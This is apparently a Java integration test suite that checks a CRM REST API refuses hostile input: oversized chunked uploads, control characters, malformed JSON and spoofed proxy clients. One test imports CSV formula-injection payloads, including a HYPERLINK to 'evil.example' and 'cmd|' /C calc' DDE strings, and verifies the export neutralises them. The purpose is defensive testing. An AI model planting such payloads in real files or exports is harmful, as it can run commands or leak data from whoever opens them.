package org.rapport.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;

import javax.inject.Inject;

import org.junit.Before;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerSuite;
import org.rapport.contacts.api.ContactService;
import org.rapport.contacts.api.NewContact;
import org.rapport.rest.Roles;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * What a hostile client sends the REST API, as an agent would: bodies over the size limit
 * however they are framed, control characters, many bad fields at once, huge values, JSON that
 * probes the parser, formulas for whoever opens an export, and every list's envelope. Each is
 * refused in the API's error shape, stores nothing, and answers without echoing the attack.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerSuite.class)
public class HostileInputIT extends HttpTestSupport {

    /** {@code maxRequestBytes} as the distribution ships it. */
    private static final int LIMIT = 1024 * 1024;

    @Inject
    ContactService contacts;

    private String marker;

    @Before
    public void aMarker() {
        marker = "h" + UUID.randomUUID().toString().replace("-", "").substring(0, 10);
    }

    @Test
    public void aChunkedImportOverTheLimitIsA413AndImportsNothing() throws IOException {
        int jobsBefore = call("GET", "/jobs", basic(Roles.AGENT), null).json().get("items").size();
        Set<String> uploadsBefore = uploads();
        byte[] csv = rows(3 * LIMIT);

        String answer = send("POST", "/contacts/import", "text/csv", csv, true);

        assertTrue(head(answer), answer.startsWith("HTTP/1.1 413"));
        assertTrue(head(answer), answer.contains("\"code\":\"payload_too_large\""));
        assertEquals("no row imported", 0, contacts.countMatches(marker));
        assertEquals("no job started", jobsBefore, call("GET", "/jobs", basic(Roles.AGENT), null).json().get("items").size());
        assertEquals("no upload left behind", uploadsBefore, uploads());
    }

    @Test
    public void aChunkedImportUnderTheLimitIsImported() throws IOException {
        String answer = send("POST", "/contacts/import", "text/csv", rows(2_000), true);

        assertTrue(head(answer), answer.startsWith("HTTP/1.1 202"));
        await("the rows are imported", () -> contacts.countMatches(marker) > 0);
    }

    @Test
    public void anImportWhoseContentLengthIsOverTheLimitIsA413() throws IOException {
        String answer = send("POST", "/contacts/import", "text/csv", rows(LIMIT + 10), false);

        assertTrue(head(answer), answer.startsWith("HTTP/1.1 413"));
        assertEquals(0, contacts.countMatches(marker));
    }

    @Test
    public void aChunkedJsonBodyOverTheLimitIsA413() throws IOException {
        String body = "{\"email\":\"" + marker + "@example.com\",\"firstName\":\"" + "x".repeat(2 * LIMIT) + "\"}";

        String answer = send("POST", "/contacts", "application/json", body.getBytes(StandardCharsets.UTF_8), true);

        assertTrue(head(answer), answer.startsWith("HTTP/1.1 413"));
        assertTrue(head(answer), answer.contains("\"code\":\"payload_too_large\""));
        assertEquals(0, contacts.countMatches(marker));
    }

    @Test
    public void controlCharactersAreRefusedNamingEveryFieldAndStoreNothing() {
        Reply refused = call("POST", "/contacts", basic(Roles.AGENT), "{\"email\": \"" + marker + "@example.com\", "
                + "\"firstName\": \"Ada\\u0000\", \"lastName\": \"Love\\u001b[2Jlace\", \"address\": {\"city\": \"x\\u0007\"}}");

        assertEquals(refused.body(), 400, refused.status());
        assertEquals(refused.body(), List.of("firstName", "lastName", "address.city"), fields(refused));
        assertFalse(refused.body(), refused.body().contains("\u0000"));
        assertEquals(0, contacts.countMatches(marker));
    }

    @Test
    public void everyBadFieldIsNamedNotOnlyTheFirst() {
        Reply types = call("POST", "/contacts", basic(Roles.AGENT), "{\"email\": \"" + marker + "@example.com\", "
                + "\"accountId\": \"acme\", \"tags\": \"vip\", \"colour\": \"red\"}");
        assertEquals(types.body(), 400, types.status());
        assertEquals(types.body(), Set.of("accountId", "tags", "colour"), Set.copyOf(fields(types)));

        Reply values = call("POST", "/contacts", basic(Roles.AGENT), "{\"email\": \"not-an-address\", "
                + "\"phone\": \"call me\", \"language\": \"!!\", \"address\": {\"country\": \"Atlantis\"}}");
        assertEquals(values.body(), 400, values.status());
        assertEquals(values.body(), Set.of("email", "phone", "language", "address.country"), Set.copyOf(fields(values)));
    }

    @Test
    public void aHugeValueIsNotEchoedBack() {
        String huge = "9".repeat(400_000) + "x";
        Reply refused = call("POST", "/contacts", basic(Roles.AGENT), "{\"email\": \"" + marker + "@example.com\", "
                + "\"phone\": \"" + huge + "\", \"language\": \"" + "y".repeat(400_000) + "\"}");

        assertEquals(400, refused.status());
        assertEquals(refused.body(), Set.of("phone", "language"), Set.copyOf(fields(refused)));
        assertTrue("the answer is " + refused.body().length() + " characters", refused.body().length() < 4_000);
    }

    @Test
    public void refusalsDoNotRevealTheParser() {
        List<String> leaks = new ArrayList<>();
        for (String body : List.of("{", "[]", "\"x\"", "{\"email\": {}}", "{\"tags\": {\"a\": 1}}", "{\"accountId\": 1e999999}",
                "{\"email\": \"a\", \"email\": \"b\"}", "{\"email\": \"a\"} trailing", "[".repeat(200), "{\"address\": []}",
                "{\"properties\": {\"x\": [[[[]]]]}}", "{\"accountId\": \"" + "9".repeat(5_000) + "\"}", "\u0000")) {
            Reply refused = call("POST", "/contacts", basic(Roles.AGENT), body);
            String all = refused.status() + " " + refused.body();
            if (refused.status() != 400 || Stream.of("com.fasterxml", "jackson", "Jackson", "java.", "org.rapport", "Exception",
                    "`", "\tat ", "Source:").anyMatch(all::contains)) {
                leaks.add(body.substring(0, Math.min(40, body.length())) + " -> " + all);
            }
        }
        assertTrue(String.join("\n", leaks), leaks.isEmpty());
    }

    @Test
    public void formulasImportedArriveNeutralisedInTheCsvExport() throws IOException {
        String csv = "email,first name,last name\n"
                + marker + "a@example.com,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Open\"\")\",+cmd|' /C calc'!A0\n"
                + marker + "b@example.com,@SUM(1+9),-2+3+cmd|' /C calc'!A0\n";
        String answer = send("POST", "/contacts/import", "text/csv", csv.getBytes(StandardCharsets.UTF_8), false);
        assertTrue(head(answer), answer.startsWith("HTTP/1.1 202"));
        await("both rows are imported", () -> contacts.countMatches(marker) == 2);
        assertEquals(201, call("POST", "/contacts", basic(Roles.AGENT), "{\"email\": \"" + marker + "c@example.com\", "
                + "\"firstName\": \"=1+2\", \"lastName\": \"@cmd\"}").status());

        Reply export = call("GET", "/contacts/export?format=csv", basic(Roles.ADMIN), null);

        assertEquals(200, export.status());
        List<String> lines = export.body().lines().filter(l -> l.contains(marker)).toList();
        assertEquals(export.body().length() > 2000 ? "(long)" : export.body(), 3, lines.size());
        String ours = String.join("\n", lines);
        for (String cell : List.of("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Open\"\")\"", "\"'+cmd|' /C calc'!A0\"",
                "\"'@SUM(1+9)\"", "\"'-2+3+cmd|' /C calc'!A0\"", "\"'=1+2\"", "\"'@cmd\"")) {
            assertTrue(cell + " in " + ours, ours.contains(cell));
        }
        for (String line : lines) {
            for (String cell : line.split("\",\"")) {
                String value = cell.replaceFirst("^\"", "");
                assertFalse(line, value.startsWith("=") || value.startsWith("+") || value.startsWith("@") || value.startsWith("\t")
                        || value.startsWith("-"));
            }
        }
    }

    @Test
    public void everyListAnswersTheEnvelope() {
        long contact = contacts.create(new NewContact(marker + "@example.com", "List", "Reader")).id();
        JsonNode paths = call("GET", "/openapi.json", Map.of(), null).json().get("paths");
        List<String> bare = new ArrayList<>();
        paths.fields().forEachRemaining(path -> {
            JsonNode get = path.getValue().get("get");
            if (get == null) {
                return;
            }
            JsonNode ok = get.path("responses").path("200").path("content").path("application/json").path("schema");
            if ("array".equals(ok.path("type").asText())) {
                bare.add("documented as an array: GET " + path.getKey());
            }
            String concrete = path.getKey().replace("{id}", Long.toString(contact)).replace("{contactId}", Long.toString(contact))
                    .replaceAll("\\{[^}]+}", "itest-none");
            Reply reply = call("GET", concrete + (concrete.contains("blocks") ? "?contactId=" + contact : ""),
                    basic(Roles.ADMIN), null);
            JsonNode answer = reply.status() == 200 && reply.body().startsWith("[") ? reply.json() : null;
            if (answer != null) {
                bare.add("answers an array: GET " + concrete);
            }
        });
        assertTrue(String.join("\n", bare), bare.isEmpty());
        for (String list : List.of("/jobs", "/users", "/keys", "/features", "/rules", "/channels", "/messages/templates",
                "/segments", "/merges", "/audit", "/privacy/holds", "/retention/tasks", "/loyalty/rewards",
                "/contacts/" + contact + "/duplicates", "/loyalty/members/" + contact + "/tiers")) {
            JsonNode page = call("GET", list, basic(Roles.ADMIN), null).json();
            assertTrue(list + ": " + page, page.has("items") && page.get("items").isArray() && page.has("offset")
                    && page.has("limit") && page.has("total"));
        }
    }

    private List<String> fields(Reply refused) {
        List<String> names = new ArrayList<>();
        refused.json().get("fields").forEach(f -> names.add(f.get("field").asText()));
        return names;
    }

    private byte[] rows(int bytes) {
        StringBuilder csv = new StringBuilder("email,first name\n");
        for (int i = 0; csv.length() < bytes; i++) {
            csv.append(marker).append('-').append(i).append("@example.com,Row\n");
        }
        return csv.toString().getBytes(StandardCharsets.UTF_8);
    }

    /**
     * Behind a reverse proxy the administrator trusts, the public paths' own limits count each
     * client the proxy names, not the proxy: one client walking forged unsubscribe tokens or
     * flooding a web form holds back nobody else (every customer's one-click unsubscribe came
     * through the proxy's one address), and is itself still held back.
     */
    @Test
    public void publicLimitsCountEachClientBehindATrustedProxy() {
        String bot = "{\"name\":\"Bot\",\"email\":\"bot@example.com\",\"website\":\"filled\"}";
        // formRequestsPerMinute is 10 and campaigns' publicRequestsPerMinute 30: more clients than twice
        // either, each sending once, would meet a 429 in any two minutes if they were counted together.
        for (int i = 1; i <= 61; i++) {
            Map<String, String> client = Map.of("X-Forwarded-For", "203.0.113." + i);
            if (i <= 21) {
                Reply form = call("POST", "/forms/website-contact/leads", client, bot);
                assertEquals("client " + i + ": " + form.body(), 400, form.status());
            }
            Reply link = call("POST", "/unsubscribe/" + i + "-" + marker, client, null);
            assertEquals("client " + i + ": " + link.body(), 404, link.status());
        }
        Map<String, String> one = Map.of("X-Forwarded-For", "198.51.100.7");
        assertTrue("one client is held back on a form", overItsShare(() -> call("POST", "/forms/website-contact/leads",
                one, bot), 21));
        assertTrue("and on campaign links", overItsShare(() -> call("POST", "/unsubscribe/1-" + marker, one, null), 61));
    }

    /** Whether a 429 answers within {@code tries} requests (twice a limit and one: a new minute may start once). */
    private static boolean overItsShare(Supplier<Reply> request, int tries) {
        for (int i = 0; i < tries; i++) {
            if (request.get().status() == 429) {
                return true;
            }
        }
        return false;
    }

    private static Set<String> uploads() throws IOException {
        Path folder = Paths.get(System.getProperty("karaf.data"), "imports");
        if (!Files.isDirectory(folder)) {
            return Set.of();
        }
        try (Stream<Path> files = Files.list(folder)) {
            return Set.copyOf(files.map(Path::toString).toList());
        }
    }

    private static String head(String answer) {
        return answer.length() > 2_000 ? answer.substring(0, 2_000) : answer;
    }

    /**
     * Sends a request as the agent, byte by byte as written here: with {@code chunked} in chunks
     * of 8 KiB and no Content-Length, as {@code curl -H 'Transfer-Encoding: chunked'} does. The
     * body is written while the answer is read, as a server that refuses part way answers and
     * closes without reading the rest.
     */
    private String send(String method, String path, String type, byte[] body, boolean chunked) throws IOException {
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        request.writeBytes((method + " /api/v1" + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + basic(Roles.AGENT)
                + "\r\nContent-Type: " + type + "\r\nConnection: close\r\n"
                + (chunked ? "Transfer-Encoding: chunked\r\n" : "Content-Length: " + body.length + "\r\n") + "\r\n")
                .getBytes(StandardCharsets.US_ASCII));
        request.writeBytes(chunked ? RawHttp.chunks(body) : body);
        return RawHttp.exchange(request.toByteArray());
    }
}
